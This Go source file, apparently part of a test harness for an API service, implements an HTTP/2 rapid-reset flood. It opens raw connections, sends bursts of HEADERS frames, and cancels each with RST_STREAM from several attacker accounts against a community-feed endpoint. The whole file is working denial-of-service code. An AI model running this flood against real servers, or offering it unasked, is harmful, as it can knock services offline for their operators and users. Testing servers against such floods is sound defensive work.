package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"net/url"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resetFlood sends requests over HTTP/2 and resets each at once, so that the limit of concurrent streams of a connection does not
// hold it back.
func resetFlood(ctx context.Context, n *network) error {
	tokens, err := newAttackers(ctx, n, attackers)
	if err != nil {
		return err
	}
	community, err := newCommunity(ctx, n, tokens[0])
	if err != nil {
		return err
	}
	address, err := url.Parse(n.api)
	if err != nil {
		return err
	}
	return together(ctx, attackers, func(i int) error {
		for ctx.Err() == nil {
			if err := resetRequests(ctx, address.Host, tokens[i], "/api/v3/community-feeds/"+community); err != nil {
				return err
			}
		}
		return nil
	})
}

// resetRequests sends requests on one connection and resets them, until the server closes the connection.
func resetRequests(ctx context.Context, host, token, path string) error {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", host)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	defer func() { _ = conn.Close() }()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	frames := http2.NewFramer(conn, nil)
	_, err = io.WriteString(conn, http2.ClientPreface)
	err = errors.Join(err, frames.WriteSettings())
	request := requestHeaders(host, token, path)
	for stream := uint32(1); err == nil && ctx.Err() == nil; stream += 2 * resetBurst {
		for i := uint32(0); i < 2*resetBurst && err == nil; i += 2 {
			err = errors.Join(
				frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream + i, BlockFragment: request, EndStream: true, EndHeaders: true}),
				frames.WriteRSTStream(stream+i, http2.ErrCodeCancel))
		}
		pause(ctx, resetInterval)
	}
	pause(ctx, time.Second) // the server has closed the connection, as it may
	return nil
}

// requestHeaders returns the headers of a request. They refer to no earlier ones, so that they fit any connection.
func requestHeaders(host, token, path string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	for _, field := range [][2]string{
		{":method", "GET"}, {":scheme", "http"}, {":authority", host}, {":path", path}, {"authorization", "Bearer " + token},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // a buffer
	}
	return block.Bytes()
}
